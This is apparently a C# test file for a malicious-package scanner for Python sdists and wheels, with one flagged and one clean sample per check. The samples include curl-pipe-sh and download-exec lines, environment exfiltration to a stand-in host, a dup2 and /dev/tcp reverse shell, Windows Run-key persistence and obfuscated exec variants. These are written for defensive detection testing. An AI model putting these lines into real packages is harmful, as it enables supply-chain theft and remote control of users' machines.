namespace Bonded.Scanning.Tests.Checks;

/// <summary>One positive and one negative case per built-in check, on small sdists and wheels built in memory.</summary>
public sealed class CheckTests
{
    [Fact]
    public async Task InstallTimeExecution_flags_network_in_setup_py_but_not_in_a_library_function()
    {
        var positive = await Packages.ScanSdistAsync(("setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/ping')\nfrom setuptools import setup\nsetup(name='demo-pkg')\n"));
        var negative = await Packages.ScanSdistAsync(("demo_pkg/net.py", "import urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"));
        Assert.True(positive.Has("install-time-execution"));
        Assert.False(negative.Has("install-time-execution"));
        Assert.Equal(Verdict.Benign, negative.Verdict);
    }

    [Fact]
    public async Task DownloadExecute_flags_curl_pipe_sh_and_exec_of_a_response_but_not_a_mention_in_a_comment()
    {
        var curl = await Packages.ScanSdistAsync(("setup.py", "import os\nos.system('curl -fsSL https://x.invalid/i.sh | sh')\n"));
        var exec = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "from urllib.request import urlopen\nexec(urlopen('https://x.invalid/p').read())\n"));
        var comment = await Packages.ScanSdistAsync(("setup.py", "# install with: curl -fsSL https://x.invalid/i.sh | sh\nfrom setuptools import setup\nsetup()\n"));
        Assert.Equal(Verdict.Threat, curl.Verdict);
        Assert.True(curl.Has("download-execute"));
        Assert.True(exec.Has("download-execute"));
        Assert.False(comment.Has("download-execute"));
    }

    [Theory]
    [InlineData("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")]
    [InlineData("from base64 import b64decode as d\nexec(d('cHJpbnQoMSk='))\n")]
    [InlineData("import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n")]
    [InlineData("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n")]
    [InlineData("exec(')1(tnirp'[::-1])\n")]
    [InlineData("exec(bytes.fromhex('7072696e74283129').decode())\n")]
    [InlineData("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n")]
    [InlineData("p = __import__('base64').b64decode('cHJpbnQoMSk=')\n__builtins__['exec'](p)\n")]
    [InlineData("import base64\ngetattr(__builtins__, 'exec')(base64.b64decode('cHJpbnQoMSk='))\n")]
    public async Task ObfuscatedExec_flags_decoded_code_run_at_install(string setup)
    {
        var report = await Packages.ScanSdistAsync(("setup.py", setup));
        Assert.True(report.Has("obfuscated-exec"), string.Join("\n", report.Findings));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task ObfuscatedExec_ignores_exec_of_a_file_read_for_the_version()
    {
        var report = await Packages.ScanSdistAsync(("setup.py", "v = {}\nexec(open('demo_pkg/version.py').read(), v)\nfrom setuptools import setup\nsetup(version=v['__version__'])\n"));
        Assert.False(report.Has("obfuscated-exec"));
    }

    [Fact]
    public async Task CredentialExfiltration_flags_the_environment_posted_at_import_but_not_a_token_read_for_an_api_call_in_a_function()
    {
        var positive = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import os, json, requests\nrequests.post('https://x.invalid/c', data=json.dumps(dict(os.environ)))\n"));
        var negative = await Packages.ScanSdistAsync(("demo_pkg/api.py", "import os, requests\n\ndef call(url):\n    return requests.get(url, timeout=5)\n"));
        Assert.True(positive.Has("credential-exfiltration"));
        Assert.Equal(Verdict.Threat, positive.Verdict);
        Assert.False(negative.Has("credential-exfiltration"));
    }

    [Fact]
    public async Task ExfiltrationEndpoint_flags_a_concrete_webhook_but_not_a_template_in_a_docstring()
    {
        var positive = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "HOOK = 'https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCD'\n"));
        var negative = await Packages.ScanSdistAsync(("demo_pkg/hooks.py", "def send():\n    \"\"\"Posts to https://discord.com/api/webhooks/ID/TOKEN.\"\"\"\n    return None\n"));
        Assert.True(positive.Has("exfiltration-endpoint"));
        Assert.False(negative.Has("exfiltration-endpoint"));
    }

    [Fact]
    public async Task ReverseShell_flags_dup2_with_a_shell_and_dev_tcp_strings()
    {
        var dup = await Packages.ScanSdistAsync(("setup.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"));
        var tcp = await Packages.ScanSdistAsync(("setup.py", "import os\nos.system('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')\n"));
        var negative = await Packages.ScanSdistAsync(("demo_pkg/server.py", "import socket\n\ndef serve():\n    s = socket.socket()\n    s.bind(('', 80))\n"));
        Assert.True(dup.Has("reverse-shell"));
        Assert.True(tcp.Has("reverse-shell"));
        Assert.False(negative.Has("reverse-shell"));
    }

    [Fact]
    public async Task Persistence_flags_a_run_key_write_but_not_a_mention_without_a_write()
    {
        var positive = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'x.exe')\n"));
        var negative = await Packages.ScanSdistAsync(("demo_pkg/doc.py", "RUN_KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"));
        Assert.True(positive.Has("persistence"));
        Assert.False(negative.Has("persistence"));
    }

    [Fact]
    public async Task PthAutoExec_flags_decoding_pth_lines_and_accepts_known_benign_ones()
    {
        var positive = await Packages.ScanAsync(Packages.Wheel(("evil.pth", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")), "demo_pkg-1.0-py3-none-any.whl");
        var benign = await Packages.ScanAsync(Packages.Wheel(("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"), ("cov.pth", "import os, sys;exec('if \\'COV\\' in os.environ:\\n from x import init\\n init()')\n")), "demo_pkg-1.0-py3-none-any.whl");
        Assert.Contains(positive.Findings, f => f.CheckId == "pth-autoexec" && f.Severity == Severity.Critical);
        Assert.Equal(Verdict.Threat, positive.Verdict);
        Assert.Equal(Verdict.Benign, benign.Verdict);
    }

    [Fact]
    public async Task NativeBinary_flags_a_disguised_executable_but_not_an_extension_module_in_a_wheel()
    {
        byte[] elf = [0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[56]];
        var disguised = await Packages.ScanAsync(Packages.Zip(("demo-pkg-1.0/PKG-INFO", System.Text.Encoding.UTF8.GetBytes(Packages.DefaultPkgInfo)), ("demo-pkg-1.0/demo_pkg/data.txt", elf)), "demo-pkg-1.0.zip");
        var module = await Packages.ScanAsync(Packages.Zip(("demo_pkg-1.0.dist-info/METADATA", System.Text.Encoding.UTF8.GetBytes(Packages.DefaultPkgInfo)), ("demo_pkg/_speedups.cpython-311-x86_64-linux-gnu.so", elf)), "demo_pkg-1.0-cp311-cp311-linux_x86_64.whl");
        Assert.True(disguised.Has("native-binary"));
        Assert.False(module.Has("native-binary"));
    }

    [Fact]
    public async Task HighEntropyBlob_flags_a_packed_payload_but_not_a_pem_certificate()
    {
        var random = new byte[3000];
        new Random(7).NextBytes(random);
        var blob = Convert.ToBase64String(random);
        var positive = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", $"DATA = '{blob}'\n"));
        var pem = await Packages.ScanSdistAsync(("demo_pkg/certs.py", $"CERT = '''-----BEGIN CERTIFICATE-----\n{blob}\n-----END CERTIFICATE-----'''\n"));
        Assert.True(positive.Has("high-entropy-blob"));
        Assert.False(pem.Has("high-entropy-blob"));
    }

    [Fact]
    public async Task UnicodeTricks_flags_bidi_controls_and_mixed_script_identifiers()
    {
        var bidi = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "x = 1  # \u202e comment\n"));
        var homoglyph = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "def \u0455etup():\n    pass\n"));
        var plain = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "# -*- coding: utf-8 -*-\nGREETING = 'Привет'\nпривет = 1\n"));
        Assert.True(bidi.Has("unicode-tricks"));
        Assert.True(homoglyph.Has("unicode-tricks"));
        Assert.False(plain.Has("unicode-tricks"));
    }

    [Theory]
    [InlineData("reqeusts", true)]
    [InlineData("python-dateutils", true)]
    [InlineData("requests", false)]
    [InlineData("my-own-unique-project", false)]
    public async Task Typosquatting_flags_names_one_slip_from_a_popular_project(string name, bool flagged)
    {
        var pkgInfo = $"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: s\nAuthor: a\nHome-page: https://example.org\n\nd\n";
        var report = await Packages.ScanAsync(Packages.Sdist($"{name}-1.0", ("PKG-INFO", pkgInfo)), $"{name}-1.0.tar.gz");
        Assert.Equal(flagged, report.Has("typosquatting"));
    }

    [Fact]
    public async Task Typosquatting_with_the_imitated_projects_repository_is_a_threat()
    {
        var pkgInfo = "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.31.0\nSummary: HTTP\nAuthor: a\nProject-URL: Source, https://github.com/psf/requests\n\nd\n";
        var report = await Packages.ScanAsync(Packages.Sdist("reqeusts-2.31.0", ("PKG-INFO", pkgInfo)), "reqeusts-2.31.0.tar.gz");
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task MetadataMismatch_flags_a_file_name_that_disagrees_with_the_metadata()
    {
        var positive = await Packages.ScanAsync(Packages.Sdist(("setup.py", "")), "other-project-1.0.tar.gz");
        var negative = await Packages.ScanAsync(Packages.Sdist(("setup.py", "")), "demo_pkg-1.0.tar.gz");
        var declared = await Packages.ScanAsync(Packages.Sdist(("setup.py", "")), context: new ScanContext { ProjectName = "somebody-else" });
        Assert.True(positive.Has("metadata-mismatch"));
        Assert.False(negative.Has("metadata-mismatch"));
        Assert.True(declared.Has("metadata-mismatch"));
    }

    [Fact]
    public async Task SpamDescription_flags_giveaway_bait_but_not_a_readme_with_badges()
    {
        var spam = "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\nSummary: FREE ROBUX GENERATOR NO HUMAN VERIFICATION\n\nfree v-bucks, 100% working, claim your free reward\n";
        var badges = "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\nSummary: A library\n\n" + string.Concat(Enumerable.Range(0, 30).Select(i => $"[![b](https://img.shields.io/b{i})](https://ci.example.org/{i})\n"));
        Assert.True((await Packages.ScanAsync(Packages.Sdist(("PKG-INFO", spam)))).Has("spam-description"));
        Assert.False((await Packages.ScanAsync(Packages.Sdist(("PKG-INFO", badges)))).Has("spam-description"));
    }

    [Fact]
    public async Task EmptyMetadata_flags_a_bare_pkg_info_but_stays_below_the_verdict_threshold_alone()
    {
        var report = await Packages.ScanAsync(Packages.Sdist(("PKG-INFO", "Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n")));
        Assert.True(report.Has("empty-metadata"));
        Assert.Equal(Verdict.Benign, report.Verdict);
        Assert.False((await Packages.ScanSdistAsync(("setup.py", ""))).Has("empty-metadata"));
    }

    [Fact]
    public async Task UrlDependency_flags_a_direct_url_requirement()
    {
        var positive = await Packages.ScanSdistAsync(("setup.py", "from setuptools import setup\nsetup(install_requires=['lib @ https://x.invalid/lib-1.0-py3-none-any.whl'])\n"));
        var negative = await Packages.ScanSdistAsync(("setup.py", "from setuptools import setup\nsetup(install_requires=['requests>=2'])\n"));
        Assert.True(positive.Has("url-dependency"));
        Assert.False(negative.Has("url-dependency"));
    }

    [Fact]
    public async Task ReleaseDiff_reports_new_install_time_calls_only()
    {
        var previous = Packages.Sdist(("setup.py", "from setuptools import setup\nsetup(name='demo-pkg')\n"));
        var next = Packages.Sdist(("setup.py", "import subprocess\nsubprocess.call(['id'])\nfrom setuptools import setup\nsetup(name='demo-pkg')\n"));
        var diff = await Packages.ScanAsync(next, context: new ScanContext { PreviousRelease = previous, PreviousReleaseFileName = "demo-pkg-0.9.tar.gz" });
        var same = await Packages.ScanAsync(previous, context: new ScanContext { PreviousRelease = previous, PreviousReleaseFileName = "demo-pkg-0.9.tar.gz" });
        Assert.Contains(diff.Findings, f => f.CheckId == "release-diff" && f.Message.Contains("subprocess.call", StringComparison.Ordinal));
        Assert.DoesNotContain(same.Findings, f => f.CheckId == "release-diff");
    }

    [Fact]
    public async Task Code_under_a_main_guard_or_in_tests_does_not_count_as_load_time()
    {
        var guarded = await Packages.ScanSdistAsync(("demo_pkg/tool.py", "import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.invalid/a | sh')\n"));
        var tests = await Packages.ScanSdistAsync(("tests/test_x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"));
        Assert.Equal(Verdict.Benign, guarded.Verdict);
        Assert.Equal(Verdict.Benign, tests.Verdict);
    }

    [Fact]
    public async Task A_thread_started_at_import_makes_its_target_load_time_code()
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import os, threading, urllib.request\n\ndef _go():\n    urllib.request.urlopen('https://x.invalid', data=str(dict(os.environ)).encode())\n\nthreading.Thread(target=_go, daemon=True).start()\n"));
        Assert.Contains(report.Findings, f => f.CheckId == "credential-exfiltration" && f.Severity == Severity.High);
    }

    [Fact]
    public async Task Every_finding_carries_evidence()
    {
        var report = await Packages.ScanSdistAsync(("setup.py", "import os, base64\nos.system('curl -s http://x.invalid | sh')\nexec(base64.b64decode('cHJpbnQoMSk='))\n"));
        Assert.NotEmpty(report.Findings);
        Assert.All(report.Findings, f => Assert.False(string.IsNullOrWhiteSpace(f.Evidence)));
        Assert.All(report.Findings.Where(f => f.CheckId != "empty-metadata"), f => Assert.NotNull(f.File));
    }
}
